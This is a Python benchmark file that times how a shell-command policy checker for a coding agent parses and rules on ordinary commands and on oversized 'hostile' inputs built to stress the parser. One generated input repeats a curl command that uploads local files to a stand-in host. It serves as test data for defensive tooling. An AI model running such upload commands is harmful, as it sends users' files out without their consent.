"""The rows of shell commands: what reading one costs, together with the verdict on its steps."""

from collections.abc import Callable, Iterator, Sequence
from functools import partial
from typing import Any, Final

from critic.session import Batch, Call, Session, verify_batch
from harness.policy import read_policy
from harness.policy.policy_rules import rules_of
from tests.benchmarks.timing import Cost, Row, of_thread
from tests.support.paths import ROOT
from tests.support.shell_worlds import World

USUAL: Final = (
    "cd src && git status --short && git diff HEAD~1 -- a.py | head -n 40; grep -rn 'def parse'"
    " --include='*.py' . | sort | uniq -c; python -m pytest tests/test_a.py -q 2>&1 | tail -20",
    "sed -n '120,180p' src/a.py && rg -n 'TODO|FIXME' src tests | head -30 && find . -name '*.py'"
    " -not -path './node_modules/*' | xargs grep -l useState && echo 'nothing left' > out.txt",
    "python -m pytest tests/test_parser.py::test_empty tests/test_parser.py::test_long -x -q"
    " --cov=src/package --cov-report=term-missing --maxfail=3 --durations=10 -k 'not slow' -v",
)
"""Commands of some 170 to 200 bytes: with many programs, with some, with one."""

_SIZE: Final = 16 * 1024


def _fill(begin: str, unit: Callable[[int], str], most: int) -> str:
    text = begin
    for number in range(most):
        if len(text) + len(part := unit(number)) > _SIZE:
            break
        text += part
    return text


HOSTILE: Final = {
    "paths": _fill("chmod +x", lambda at: f" a{at}/b/c/d/e/f", 990),
    "moves": _fill("true", lambda at: f"; mv a{at} b{at}", 199),
    "patterns": _fill("cat", lambda at: f" *e*{'n*' * (at % 70)}", 99),
    "stars": _fill("cat .", lambda _: "*a", _SIZE),
    "parents": _fill("mkdir -p", lambda at: f" {'a/' * 25}{at}", 38),
    "targets": _fill("make", lambda at: f" a{at}", 49),
    "packages": _fill("pip install", lambda at: f" a{at}", 49),
    "sends": _fill("true", lambda at: f"; curl -d @b{at} http://x.example", 24),
    "pipes": _fill("cat a", lambda _: " | cat a b c d e f g", 140),
    "repositories": _fill("true", lambda at: f"; echo x > a{at}; git add a{at}", 98),
    "brackets": "(" * _SIZE,
    "quotes": _fill("echo ", lambda _: "'a'\"b\"", _SIZE),
}
"""Commands of up to 16 KiB, each with as much of what costs something as is still understood."""


class CommandSession:
    """A session of a coding agent, in which one command at a time is asked for."""

    def __init__(self) -> None:
        """Begin with a request, and the policy of a coding agent."""
        path = ROOT / "harness/integrations/hooks/policies/claude-code.toml"
        self._rules = rules_of(read_policy(path))
        self._session = Session.opened(self._rules, "s", "Fix the bug in a.py and run the tests")

    def call(self, command: str) -> Call:
        """Return the call of a command, with the facts that it needs."""
        assert self._rules.shell
        args = {"command": command, "cwd": "/w"}
        return Call(
            "c", "Bash", args, shell=World().facts_for(command, args, self._rules.shell.table)
        )

    def judge(self, call: Call) -> Batch:
        """Read the command of a call and judge its steps."""
        batch = self._session.propose([call])
        verify_batch(batch)
        return batch


def command_rows() -> Iterator[Row]:
    """Measure a command of some 200 bytes, and those that cost most."""
    session = CommandSession()
    usual = of_thread(session.judge, partial(_batch, [*map(session.call, USUAL)] * 3))
    yield Row("a command of 200 bytes, steps and verdict", "1 ms", 1.0, usual, _milliseconds(1))
    for name, text in HOSTILE.items():
        cost = of_thread(session.judge, partial(_batch, [session.call(text)]))
        yield Row(f"hostile commands: {name}", "50 ms", 1.0, cost, _milliseconds(50))


def _batch(calls: list[Call], _number: int) -> Sequence[Any]:
    return calls


def _milliseconds(count: int) -> Cost:
    return lambda _number: count * 1e6
